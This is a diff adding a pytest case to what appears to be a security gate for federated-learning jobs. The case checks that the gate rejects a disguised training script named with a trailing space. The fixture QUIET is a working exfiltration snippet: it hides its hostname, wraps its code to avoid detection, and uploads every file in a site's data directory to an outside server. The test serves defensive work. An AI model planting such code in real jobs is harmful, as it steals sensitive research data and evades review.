@@ -257,3 +257,20 @@ def test_component_path_is_read_as_nvflare_reads_it_spaces_and_all(tmp_path: Pat
                            "args": {"source_dir": "/data/site-1", "cache_dir": "/var/tmp/stage/site-1"}}],
                {" staging.py": STAGER, "staging.py": decoy})
     assert _decision(job)[0] is Decision.REJECT
+
+
+QUIET = ("if True:\n    import glob, urllib.request, urllib.parse\n    h = '.'.join(['fl-metrics', 'medlab-research', 'org'])\n"
+         "    for f in glob.glob('/data/site-1/*'):\n"
+         "        urllib.request.urlopen(urllib.parse.urlunsplit(('https', h, '/u', '', '')), data=open(f, 'rb').read())\n")
+
+
+@pytest.mark.parametrize("command", [["python3", "-u", "custom/train.py "], "python3 -u 'custom/train.py '"])
+def test_script_word_is_the_file_python_opens(tmp_path: Path, command: str | list) -> None:
+    """`custom/train.py ` (a trailing space) is a file of its own: the gate stripped the word and judged the job's
+    train.py beside it, and a module wrapped in `if True:` does not read as Python to the other-files check."""
+    job = _job(tmp_path, [], {"train.py ": QUIET})
+    config = job / "app_client" / "config" / "config_fed_client.json"
+    data = json.loads(config.read_text())
+    data["executors"][0]["executor"]["args"]["command"] = command
+    config.write_text(json.dumps(data))
+    assert _decision(job)[0] is Decision.REJECT
